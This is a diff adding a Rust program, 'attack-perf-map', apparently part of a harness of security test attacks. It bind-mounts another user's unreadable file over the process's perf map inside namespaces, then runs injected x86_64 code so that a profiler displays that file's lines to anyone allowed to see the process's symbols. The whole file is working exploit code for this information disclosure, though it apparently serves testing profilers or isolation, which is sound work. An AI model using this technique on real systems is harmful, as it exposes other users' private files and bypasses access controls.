@@ -1,0 +1,72 @@
+//! A file of another user mounted where a process names the code that it makes: whoever reads it for this process shows its
+//! lines to whoever may see the process's functions.
+
+use anyhow::{Context, bail};
+
+use super::{Program, enter_namespaces, map, mount};
+use crate::options::Options;
+use crate::sys;
+use crate::truth::Truth;
+
+pub(super) const PROGRAM: Program = Program {
+    name: "attack-perf-map",
+    about: "mounts the file --path over its perf map and runs code at 0x1000000000 for --seconds",
+    run,
+};
+
+/// Where the code lies: the other file's lines have to name it.
+const CODE_AT: usize = 0x10_0000_0000;
+/// mov rax, rdi; 1: imul rax, rax, 0x12345; dec rdi; jnz 1b; ret
+const CODE: [u8; 16] = [
+    0x48, 0x89, 0xf8, 0x48, 0x69, 0xc0, 0x45, 0x23, 0x01, 0x00, 0x48, 0xff, 0xcf, 0x75, 0xf4, 0xc3,
+];
+
+fn run(options: &Options, mut truth: Truth) -> anyhow::Result<Truth> {
+    if !cfg!(target_arch = "x86_64") {
+        bail!("the code is x86_64 only");
+    }
+    let secret = options
+        .path
+        .as_ref()
+        .context("--path is the file to mount")?;
+    let secret = secret.to_str().context("a path that is no text")?;
+    if std::fs::read(secret).is_ok() {
+        bail!("{secret} can be read without an attack");
+    }
+    let own = format!("/tmp/perf-{}.map", std::process::id());
+    std::fs::write(&own, "")?;
+    enter_namespaces()?;
+    mount(secret, &own, "", libc::MS_BIND, "")?;
+    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_FIXED_NOREPLACE;
+    let page = map(
+        CODE_AT,
+        4096,
+        libc::PROT_READ | libc::PROT_WRITE,
+        flags,
+        None,
+    )?;
+    // SAFETY: the fresh page is writable and longer than the code.
+    unsafe { std::ptr::copy_nonoverlapping(CODE.as_ptr(), page as *mut u8, CODE.len()) };
+    // SAFETY: changes only that page: from writable to executable.
+    let answer = unsafe {
+        libc::mprotect(
+            page as *mut libc::c_void,
+            4096,
+            libc::PROT_READ | libc::PROT_EXEC,
+        )
+    };
+    if answer != 0 {
+        bail!("the page cannot be made executable");
+    }
+    // SAFETY: the page holds a whole function with this signature.
+    let code: extern "C" fn(u64) -> u64 = unsafe { std::mem::transmute(page) };
+    let until_ns = sys::monotonic_ns() + options.duration_ns();
+    let mut calls = 0u64;
+    while sys::monotonic_ns() < until_ns {
+        std::hint::black_box(code(1_000_000));
+        calls += 1;
+    }
+    std::fs::remove_file(&own).unwrap_or_default();
+    truth.set("calls", calls);
+    Ok(truth)
+}
